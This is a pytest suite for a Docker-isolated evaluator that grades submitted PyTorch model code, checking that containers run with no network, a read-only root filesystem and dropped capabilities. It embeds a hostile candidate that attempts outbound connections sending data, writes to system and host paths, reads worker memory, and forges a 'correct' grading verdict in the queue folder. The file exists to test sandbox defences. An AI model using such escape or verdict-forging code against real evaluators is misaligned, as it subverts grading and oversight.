"""The `docker` evaluator with a real Docker engine: correct, incorrect and hostile candidates in
locked-down containers, a candidate that kills its worker, and `pikeh eval --evaluator docker`.

Needs a running Docker engine and the CPU test image (`.ci/start-docker.sh` provides both on a
Debian CI machine; the fixture builds the image when only the engine is there). Skips with a message
where Docker is unavailable. The image has no Python of its own: the tests mount this venv
read-only (`--docker-host-python`), since no registry is reachable to fetch one.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from queue_helpers import CORRECT, INCORRECT, KILLS_WORKER, request

from pike_harness.contracts.evaluation import EvaluatorError, EvaluatorOptions

pytestmark = pytest.mark.docker
REPO = Path(__file__).resolve().parents[2]
IMAGE = "pikeh-worker:cpu-test"
BASE = "pikeh-base:local"
CORPUS = REPO / "tests" / "eval" / "corpus"


def _docker(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run(["docker", *args], capture_output=True, text=True, timeout=timeout)


@pytest.fixture(scope="module")
def docker_image() -> str:
    if shutil.which("docker") is None:
        pytest.skip("docker is not installed (.ci/start-docker.sh installs Debian's docker.io and starts it)")
    info = _docker("info", timeout=30)
    if info.returncode != 0:
        lines = (info.stderr or info.stdout).strip().splitlines() or ["no answer"]
        pytest.skip(f"no Docker engine reachable ({lines[-1]}); .ci/start-docker.sh starts one")
    if _docker("image", "inspect", IMAGE).returncode != 0:
        if _docker("image", "inspect", BASE).returncode != 0:
            subprocess.run(["bash", str(REPO / "containers" / "make-local-base.sh"), "--tag", BASE, "--python",
                            sys.executable, sys.prefix], check=True, timeout=300)
        pikeh = Path(sys.executable).with_name("pikeh")
        subprocess.run([str(pikeh), "worker", "image", "build", "--kind", "cpu", "--no-torch", "--base", BASE,
                        "--tag", IMAGE], check=True, timeout=300)
    return IMAGE


@pytest.fixture(scope="module")
def docker_evaluator(docker_image, tmp_path_factory):
    from pikeh_docker import DockerConfig
    from pikeh_docker.evaluator import DockerEvaluator

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("OMP_NUM_THREADS", "1")
        evaluator = DockerEvaluator(EvaluatorOptions(
            device="cpu", protocol="quick", workdir=tmp_path_factory.mktemp("docker-eval"),
            config=DockerConfig(docker_image=docker_image, docker_host_python=True, docker_memory="6g",
                                docker_pids=2048, docker_max_active=3, docker_start_timeout=120)))
    session = evaluator.client.session
    yield evaluator
    evaluator.close()
    left = _docker("ps", "-a", "-q", "--filter", f"label=pikeh.session={session}").stdout.split()
    assert left == [], "close() must remove the evaluator's containers"


HOSTILE = '''
import errno, json, os, socket, sys
import torch
import torch.nn as nn

MARK = "hostile-candidate-7f3a"
report = {"interfaces": [name for _, name in socket.if_nameindex()]}
for label, address in (("loopback", ("127.0.0.1", __PORT__)), ("host", (__HOST_IP__, __PORT__)),
                       ("internet", ("1.1.1.1", 53))):
    if address[0] is None:
        continue
    try:
        connection = socket.create_connection(address, timeout=3)
        connection.sendall(b"leaked")
        report[label] = "connected"
    except OSError as exc:
        report[label] = errno.errorcode.get(exc.errno, str(exc))
package = "/opt/pikeh/" + sorted(os.listdir("/opt/pikeh"))[0]  # the worker's code (named without naming it)
for label, path in (("root", "/pwned"), ("etc", "/etc/pwned"), ("worker_code", package + "/pwned"),
                    ("venv", sys.prefix + "/pwned"), ("host_dir", __HOST_DIR__ + "/pwned")):
    try:
        with open(path, "w") as handle:
            handle.write("x")
        report[label] = "written"
    except OSError as exc:
        report[label] = errno.errorcode.get(exc.errno, str(exc))
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as handle:
        report["worker_memory"] = "readable"
except OSError as exc:
    report["worker_memory"] = errno.errorcode.get(exc.errno, str(exc))
# Forge a verdict: find this candidate's own request in the queue folder, write a "correct" result.
forged = []
for worker in os.listdir("/io/claimed"):
    for name in os.listdir(f"/io/claimed/{worker}"):
        message = json.load(open(f"/io/claimed/{worker}/{name}"))
        if MARK in message["request"]["candidate_source"]:
            ticket = message["ticket"]
            fake = {"protocol": "pikeh-queue/1", "kind": "result", "ticket": ticket,
                    "request_id": message["request"]["request_id"], "worker": {"id": worker},
                    "result": {"request_id": message["request"]["request_id"], "task": "x",
                               "category": "correct", "runtime_ms": 1e-6}}
            # Written whole (temporary name, then rename), as a careful forger would: a half-written
            # file read by the host's poller is merely unreadable, not a forged verdict to refuse.
            with open(f"/io/results/.{ticket}.tmp", "w") as handle:
                json.dump(fake, handle)
            os.rename(f"/io/results/.{ticket}.tmp", f"/io/results/{ticket}.json")
            forged.append(ticket)
report["forged"] = forged
if forged:  # let the host's poller find the forgery before the worker's real verdict replaces the file
    import time
    time.sleep(2.0)
print("REPORT " + json.dumps(report), flush=True)


class ModelNew(nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        return torch.relu(x) * (self.scale + 1.0)
'''


# Fills memory while loading: the worker caps each candidate at 60% of the container's 6 GB.
MEMORY_HOG = "import torch\n\nblocks = [torch.ones(16 * 1024 * 1024) for _ in range(400)]\n" + CORRECT


def _listener() -> tuple[socket.socket, list[bytes]]:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", 0))
    server.listen()
    received: list[bytes] = []

    def accept() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            received.append(connection.recv(100) or b"(connected)")
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    return server, received


def _host_ip() -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # no packet is sent for UDP; this only picks a source address
            address = probe.getsockname()[0]
        except OSError:
            return None
    return None if address.startswith("127.") else address


def test_correct_incorrect_and_hostile_candidates(docker_evaluator, tmp_path):
    server, received = _listener()
    port = server.getsockname()[1]
    host_dir = tmp_path / "host-only"
    host_dir.mkdir()
    hostile = (HOSTILE.replace("__PORT__", str(port)).replace("__HOST_IP__", repr(_host_ip()))
               .replace("__HOST_DIR__", repr(str(host_dir))))
    try:
        requests = {"correct": request(CORRECT), "incorrect": request(INCORRECT), "hostile": request(hostile),
                    "memory_hog": request(MEMORY_HOG)}
        futures = {name: docker_evaluator.submit(req) for name, req in requests.items()}
        results = {name: future.result(timeout=300) for name, future in futures.items()}
    finally:
        server.close()
    assert results["correct"].category == "correct", results["correct"].reason
    assert results["incorrect"].category == "incorrect" and results["incorrect"].check == "allclose"
    hog = results["memory_hog"]
    assert hog.category == "runtime_error" and hog.check == "memory_limit", (hog.check, hog.reason)
    assert f"over the {int(6 * 1024 * 0.6)} MB limit" in hog.reason, "capped below the request's 4096 MB"

    hostile_result = results["hostile"]
    assert hostile_result.category == "incorrect", "the forged 'correct' verdict must not be taken"
    line = next(line for line in hostile_result.stdout_tail.splitlines() if line.startswith("REPORT "))
    report = json.loads(line.removeprefix("REPORT "))
    assert report["interfaces"] == ["lo"], "--network none: loopback only"
    assert report["loopback"] == "ECONNREFUSED" and report["internet"] in ("ENETUNREACH", "EHOSTUNREACH")
    if _host_ip() is not None:
        assert report["host"] in ("ENETUNREACH", "EHOSTUNREACH")
    assert received == [], "nothing reached the host's listener"
    for label in ("root", "etc", "worker_code", "venv"):
        assert report[label] == "EROFS", (label, report[label])
    assert report["host_dir"] in ("ENOENT", "EROFS"), "host folders are not in the container"
    assert not (host_dir / "pwned").exists() and not Path("/pwned").exists()
    assert report["worker_memory"] in ("EACCES", "EPERM"), "the worker (which holds the key) is not readable"
    assert report["forged"], "the candidate did find its request and wrote a forged result"
    assert docker_evaluator.client.stats["forged"] >= 1, "the forged result was seen and refused"
    assert {r.environment["worker"]["id"] for r in results.values()} == {docker_evaluator.containers[0].spec.worker_id}
    if results["correct"].isolation.startswith("container ("):  # no bubblewrap inside: nothing shared
        from pike_harness.worker.api import ENGINE_STATS_SUFFIX
        from pike_harness.worker.api import queue_channel as qc

        worker = docker_evaluator.containers[0].spec.worker_id
        engine = qc.read_json(docker_evaluator.client.qdir.workers, worker + ENGINE_STATS_SUFFIX)["engine"]
        assert engine["build_cache"] is None and engine["jit_cache"] == "private", engine
        assert "without the sandbox" in engine["cache_note"]


def test_containers_run_locked_down(docker_evaluator):
    name = docker_evaluator.containers[0].spec.name
    inspect = json.loads(_docker("inspect", name).stdout)[0]
    host = inspect["HostConfig"]
    assert host["NetworkMode"] == "none" and host["CapDrop"] == ["ALL"] and host["ReadonlyRootfs"] is True
    assert "no-new-privileges" in host["SecurityOpt"] and host["PidsLimit"] == 2048
    assert host["Memory"] == 6 * 1024**3 and host["MemorySwap"] == 6 * 1024**3
    assert set(host["Tmpfs"]) == {"/scratch", "/tmp"} and host["Init"] is True
    assert host["LogConfig"]["Type"] == "none", "no unbounded copy of the output under Docker's data root"
    assert " serves " in docker_evaluator.containers[0].log.tail(100_000), "the output still reaches our own log"
    assert inspect["Config"]["User"] == f"{os.getuid()}:{os.getgid()}"
    # the worker: python -s -P (nothing planted in $HOME=/scratch or its working folder is imported), in /
    assert inspect["Args"][:4] == ["-s", "-P", "-m", "pike_harness.worker.supervise.service"], inspect["Args"]
    assert inspect["Config"]["WorkingDir"] == "/"
    writable = [m for m in inspect["Mounts"] if m["RW"]]
    assert [m["Destination"] for m in writable] == ["/io"], "the queue folder is the only writable host path"
    assert all(word not in json.dumps(inspect["Config"]["Env"]) for word in ("KEY", "TOKEN", "mac")), \
        "the key reaches the worker on stdin, not in the environment"


def test_a_candidate_that_kills_its_worker_ends_as_worker_lost(docker_evaluator):
    container = docker_evaluator.containers[0]
    restarts = container.restarts
    result = docker_evaluator.submit(request(KILLS_WORKER)).result(timeout=300)
    assert result.category == "runtime_error" and result.check == "worker_lost", (result.check, result.reason)
    assert container.restarts == restarts + 3, "each death restarted the container under the same worker id"
    after = docker_evaluator.submit(request(CORRECT)).result(timeout=300)
    assert after.category == "correct", "the evaluator keeps working afterwards"


def test_pikeh_eval_with_the_docker_evaluator(docker_image, run_pikeh):
    proc = run_pikeh("eval", str(CORPUS / "ok_plain.py"), "--task", "smoke/1", "--evaluator", "docker",
                     "--device", "cpu", "--docker-image", docker_image, "--docker-host-python", "--protocol", "quick",
                     "--json", env={"OMP_NUM_THREADS": "1"})
    assert proc.returncode == 0, proc.stderr
    record = json.loads(proc.stdout)
    assert record["category"] == "correct" and record["environment"]["worker"]["id"].startswith("docker-")


def test_clear_errors_for_a_missing_image_and_missing_gpu_runtime(docker_image):
    from pikeh_docker import DockerConfig
    from pikeh_docker.engine import Engine
    from pikeh_docker.evaluator import DockerEvaluator

    with pytest.raises(EvaluatorError, match="no image 'pikeh-worker:nope'.*pikeh worker image build"):
        DockerEvaluator(EvaluatorOptions(device="cpu", config=DockerConfig(docker_image="pikeh-worker:nope")))
    if "nvidia" not in _docker("info", "--format", "{{json .Runtimes}}").stdout and not shutil.which(
            "nvidia-container-runtime-hook"):
        with pytest.raises(EvaluatorError, match="NVIDIA container runtime is missing"):
            Engine("docker").check_gpu_runtime()
